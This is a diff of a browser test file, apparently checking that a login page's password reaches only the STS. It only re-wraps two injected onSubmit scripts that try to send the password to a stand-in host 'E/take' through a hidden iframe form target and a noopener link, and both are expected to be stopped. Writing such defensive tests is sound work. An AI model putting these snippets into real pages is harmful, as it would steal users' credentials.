@@ -181,7 +181,8 @@ test.describe('the password goes nowhere but to the STS', () => {
       'a form in a frame of another site',
       withScript(
         onSubmit(
-          "event.preventDefault(); document.body.insertAdjacentHTML('beforeend', '<iframe name=f></iframe>'); document.forms[0].target = 'f'; document.forms[0].action = 'E/take'; document.forms[0].submit()",
+          "event.preventDefault(); document.body.insertAdjacentHTML('beforeend', '<iframe name=f></iframe>'); document.forms[0].target = 'f'; " +
+            "document.forms[0].action = 'E/take'; document.forms[0].submit()",
         ),
       ),
       'stopped',
@@ -191,7 +192,8 @@ test.describe('the password goes nowhere but to the STS', () => {
       'a link without opener',
       withScript(
         onSubmit(
-          "event.preventDefault(); const a = Object.assign(document.createElement('a'), { target: '_blank', rel: 'noopener', href: 'E/take?p=' + encodeURIComponent(p) }); document.body.append(a); a.click()",
+          "event.preventDefault(); const a = Object.assign(document.createElement('a'), { target: '_blank', rel: 'noopener', href: " +
+            "'E/take?p=' + encodeURIComponent(p) }); document.body.append(a); a.click()",
         ),
       ),
       'stopped',
